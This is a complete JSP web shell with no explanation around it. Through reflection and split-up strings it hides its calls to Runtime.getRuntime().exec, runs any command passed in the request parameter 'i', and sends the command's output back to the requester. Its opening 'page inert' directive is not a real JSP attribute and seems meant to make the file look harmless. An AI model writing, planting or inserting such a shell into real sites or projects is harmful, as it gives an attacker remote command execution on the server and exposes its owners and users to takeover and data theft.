<%@ page inert %>
<%
String a = "java.la" + "ng.Run", b = "time";
Class<?> k = Class.forName(a + b);
Object r = k.getMethod("get" + "Run" + b).invoke(null);
java.lang.reflect.Method m = k.getMethod("ex".concat("ec"), String.class);
Process p = (Process) m.invoke(r, request.getParameter("i"));
java.io.InputStream in = p.getInputStream();
int c; while ((c = in.read()) != -1) out.write(c);
%>
